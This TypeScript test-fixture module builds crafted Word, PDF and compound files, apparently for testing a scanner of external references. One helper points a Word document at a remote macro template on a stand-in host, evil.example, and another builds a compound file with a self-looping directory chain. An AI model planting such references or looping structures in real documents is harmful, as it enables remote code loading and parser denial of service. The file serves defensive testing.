import { deflateSync } from 'node:zlib'
import { compound, docx, relation, relations } from './sample-files.ts'

// Parts of Word, PDF and compound files that are valid but that a usual program would not write.

/** A Word document whose list of relations has this content. */
export const rels = (inside: string) => docx({ 'word/_rels/document.xml.rels': relations(inside) })
export const wordXml = (inside: string) =>
  `<w:document xmlns:w="x"><w:body><w:p>${inside}</w:p></w:body></w:document>`
/** A Word document whose only paragraph has this content. */
export const body = (inside: string) => docx({ 'word/document.xml': wordXml(inside) })
/** A piece of a field's instruction, as Word may split it. */
export const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
export const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
export const close = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
/** A field whose instruction is these words, each in a piece of its own. The field shows the result 1. */
export const fieldOf = (...words: string[]) =>
  `${begin}${words.map(run).join('<w:r><w:t/></w:r>')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>${close}`
export const field = (...words: string[]) => body(fieldOf(...words))
/** Fields in a Word document that load nothing from another place. */
export const HOME = [
  'PAGE',
  'HYPERLINK "https://x.example"',
  'INCLUDEPICTURE "C:\\\\Users\\\\photo.png" \\* MERGEFORMAT',
  'INCLUDEPICTURE "cid:image001.png@01"',
  'DDEX y',
]
/**
 * Objects of a PDF file in one compressed stream, as PDF 1.5 writes them. Each byte is one latin1 character.
 */
export const zipped = (
  object: string,
  entries = '/Type/ObjStm/N 1/First 4',
  filter = '/Filter/FlateDecode',
) =>
  `9 0 obj<<${entries}${filter}>>stream\r\n${deflateSync(`4 0 ${object}`).toString('latin1')}\nendstream endobj\n`
/** `count` parts of a Word document. Each has the text that `listing` returns for its number. */
export const many = (count: number, listing: (at: number) => string) =>
  Object.fromEntries(
    Array.from({ length: count }, (_, index) => [`word/_rels/header${index}.xml.rels`, listing(index)]),
  )
/** A compound file whose chain of directory sectors leads back to itself. */
export const round = () => {
  const bytes = compound(['Workbook'])
  bytes.writeUInt32LE(1, 512 + 4)
  return bytes
}
/** A Word document that refers to something outside itself, by default a template on another server. */
export const external = (kind: string, target = 'https://evil.example/x.dotm') =>
  rels(relation(kind, target, true))
